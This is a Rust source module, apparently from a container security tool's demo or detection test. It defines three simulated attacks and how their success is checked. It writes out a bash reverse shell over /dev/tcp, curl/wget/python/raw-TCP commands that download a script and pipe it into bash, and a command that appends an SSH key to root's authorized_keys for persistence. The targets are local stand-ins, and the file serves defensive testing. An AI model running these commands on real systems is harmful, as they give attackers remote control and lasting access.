//! The attacks: what is run in the container, what it has to be found as, and what would tell that it worked.
//! Each is harmless where it succeeds: a file in the container's memory.

use super::init::{Order, PATH};
use super::stand_in::{SCRIPT_MARKER, SHELL_MARKER, SHELL_PORT, Service, WEB_PORT};
use crate::finding::FindingKind;
use std::path::Path;

/// Where the key is planted.
pub(super) const KEYS: &str = "/root/.ssh/authorized_keys";
/// The comment of the key, by which it is found again. It is no valid key.
pub(super) const KEY_COMMENT: &str = "attacker@bulkhead-demo";

/// One attack.
#[derive(Clone, Debug)]
pub(super) struct Attack {
    /// What it is called.
    pub(super) title: &'static str,
    /// What it is good for, in one sentence.
    pub(super) why: &'static str,
    /// What bash is given.
    pub(super) script: String,
    /// What it has to be found as: one of these.
    pub(super) kinds: &'static [FindingKind],
    /// What tells that it worked.
    pub(super) effect: Effect,
    /// The stand-in it talks to.
    pub(super) service: Option<Service>,
}

/// What tells that an attack worked.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Effect {
    /// A file is there.
    Marker(&'static str),
    /// The key is in the file.
    Key,
}

impl Effect {
    /// The question to the container.
    pub(super) fn order(&self) -> Order {
        match self {
            Self::Marker(path) => Order::Exists { path: (*path).to_owned() },
            Self::Key => Order::Contains { path: KEYS.to_owned(), text: KEY_COMMENT.to_owned() },
        }
    }
}

/// What the host has to download with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Toolbox {
    /// curl.
    Curl,
    /// wget.
    Wget,
    /// Python 3.
    Python,
    /// Only bash itself.
    Bash,
}

impl Toolbox {
    /// The best that is there; `None` without bash.
    pub(super) fn find() -> Option<Self> {
        Self::choose(|program| PATH.split(':').any(|folder| Path::new(folder).join(program).is_file()))
    }

    fn choose(has: impl Fn(&str) -> bool) -> Option<Self> {
        let found = [("curl", Self::Curl), ("wget", Self::Wget), ("python3", Self::Python)];
        let tool = found.into_iter().find_map(|(program, tool)| has(program).then_some(tool));
        has("bash").then(|| tool.unwrap_or(Self::Bash))
    }

    fn download(self) -> String {
        let address = format!("http://127.0.0.1:{WEB_PORT}/x.sh");
        match self {
            Self::Curl => format!("curl -s {address} | bash"),
            Self::Wget => format!("wget -qO- {address} | bash"),
            Self::Python => format!(
                "python3 -c 'import urllib.request as u; print(u.urlopen(\"{address}\").read().decode())' | bash"
            ),
            // The headers of the answer are not for the shell: they end at the first empty line.
            Self::Bash => format!(
                "exec 3<>/dev/tcp/127.0.0.1/{WEB_PORT}; printf 'GET /x.sh HTTP/1.0\\r\\n\\r\\n' >&3; \
                 sed '1,/^\\r*$/d' <&3 | bash"
            ),
        }
    }
}

/// All of them, in the order they are played.
pub(super) fn all(toolbox: &Toolbox) -> Vec<Attack> {
    vec![
        Attack {
            title: "reverse shell",
            why: "a shell in the container takes its commands from the attacker's machine",
            script: format!("bash -i >& /dev/tcp/127.0.0.1/{SHELL_PORT} 0>&1"),
            kinds: &[FindingKind::ReverseShell],
            effect: Effect::Marker(SHELL_MARKER),
            service: Some(Service::Shell),
        },
        Attack {
            title: "download piped into a shell",
            why: "a script from the network is run without ever being a file",
            script: toolbox.download(),
            kinds: &[FindingKind::DownloadExec],
            effect: Effect::Marker(SCRIPT_MARKER),
            service: Some(Service::Web),
        },
        Attack {
            title: "SSH key planted",
            why: "the attacker's key lets him in again, long after the hole is closed",
            script: format!("echo 'ssh-ed25519 AAAA-not-a-key {KEY_COMMENT}' >> {KEYS}"),
            kinds: &[FindingKind::PersistenceSshKey],
            effect: Effect::Key,
            service: None,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_best_tool_is_taken() {
        assert_eq!(Toolbox::choose(|_| true), Some(Toolbox::Curl));
        assert_eq!(Toolbox::choose(|p| matches!(p, "bash" | "wget" | "python3")), Some(Toolbox::Wget));
        assert_eq!(Toolbox::choose(|p| matches!(p, "bash" | "python3")), Some(Toolbox::Python));
        assert_eq!(Toolbox::choose(|p| p == "bash"), Some(Toolbox::Bash));
        assert_eq!(Toolbox::choose(|p| p == "curl"), None);
    }
}
